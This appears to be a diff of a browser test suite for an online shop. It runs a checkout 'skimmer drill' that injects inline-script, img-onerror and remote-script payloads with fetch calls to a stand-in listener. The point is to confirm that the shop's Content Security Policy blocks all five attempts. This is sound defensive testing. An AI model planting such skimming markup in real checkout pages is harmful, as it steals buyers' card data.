@@ -1,28 +1,19 @@
 import { expect, type Page } from 'playwright/test'
 import { Buyer } from '../fixtures/buyer'
 import { openListener } from '../fixtures/listener'
+import { hostOf, rawRequest } from '../fixtures/raw-http'
 import type { Attack } from './attack'
 
-/** What somebody does who has managed to write into the page of the checkout. `elsewhere` is where card numbers would go. */
-const drills: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> = {
-  'an inline script': (page, elsewhere) =>
-    page.evaluate((url) => {
-      const script = document.createElement('div')
-      script.innerHTML = `<img src="x" onerror="window.skimmed=1;fetch('${url}/inline')">`
-      document.body.append(script)
-      const markup = document
-        .createRange()
-        .createContextualFragment(`<script>window.skimmed=1;fetch('${url}/inline')</script>`)
-      document.body.append(markup)
-    }, elsewhere),
-  'a script from elsewhere': (page, elsewhere) =>
-    page.evaluate((url) => {
-      document.body.append(document.createRange().createContextualFragment(`<script src="${url}/skimmer.js"></script>`))
-      document.body.insertAdjacentHTML(
-        'beforeend',
-        `<link rel="stylesheet" href="${url}/style.css"><base href="${url}/">`,
-      )
-    }, elsewhere),
+/** What somebody has managed to write into the page of the checkout. `elsewhere` is where card numbers would go. */
+const written: Record<string, (elsewhere: string) => string> = {
+  'an inline script': (elsewhere) =>
+    `<script>window.skimmed=1;fetch('${elsewhere}/inline')</script><img src="x" onerror="window.skimmed=1;fetch('${elsewhere}/inline')">`,
+  'a script from elsewhere': (elsewhere) =>
+    `<script src="${elsewhere}/skimmer.js"></script><link rel="stylesheet" href="${elsewhere}/style.css"><base href="${elsewhere}/">`,
+}
+
+/** What is done in it once it is there. */
+const done: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> = {
   'the form sent elsewhere': (page, elsewhere) =>
     page.evaluate((url) => {
       const form = document.createElement('form')
@@ -61,7 +52,7 @@ export const skimmers: Attack = {
   attack: 'skimmer drill in checkout: inline, remote script, form-action, img/beacon exfil, fake card form',
   expected: '5/5 blocked by CSP in a real browser; inventory test fails the build',
   asvs: '3.4.3',
-  run: async ({ browser, openShop }) => {
+  run: async ({ house, browser, openShop }) => {
     const shop = await openShop()
     const elsewhere = await openListener('window.skimmed=1', 'text/javascript')
     const context = await browser.newContext()
@@ -81,12 +72,29 @@ export const skimmers: Attack = {
       await buyer.startsCheckout()
       const address = page.url()
       expect(kept, 'before any drill').toEqual([])
-      for (const [name, drill] of Object.entries(drills)) {
+      const isBlocked = async (name: string, act: () => Promise<unknown>) => {
         const before = kept.length
-        await drill(page, elsewhere.url)
+        await act()
         await expect.poll(() => kept.length, name).toBeGreaterThan(before)
         expect(await page.evaluate(() => 'skimmed' in window), name).toBe(false)
         expect(page.url(), name).toBe(address)
+      }
+      for (const [name, drill] of Object.entries(done)) await isBlocked(name, () => drill(page, elsewhere.url))
+      for (const [name, markup] of Object.entries(written)) {
+        await page.route(address, async (route) => {
+          const { cookie = '' } = await route.request().allHeaders()
+          const asked = { host: hostOf(house, shop.slug), path: new URL(address).pathname, headers: { cookie } }
+          const { status, headers, body } = await rawRequest(house, asked)
+          const policy = String(headers['content-security-policy'])
+          expect([status, policy.includes('nonce-')]).toEqual([200, true])
+          await route.fulfill({
+            status,
+            headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy },
+            body: body.replace(/<body[^>]*>/, (tag) => tag + markup(elsewhere.url)),
+          })
+        })
+        await isBlocked(name, () => page.reload())
+        await page.unroute(address)
       }
       expect(elsewhere.visits).toEqual([])
       return { seen: `5 of 5 blocked, ${kept.length} reports of the policy, 0 calls arrived elsewhere` }
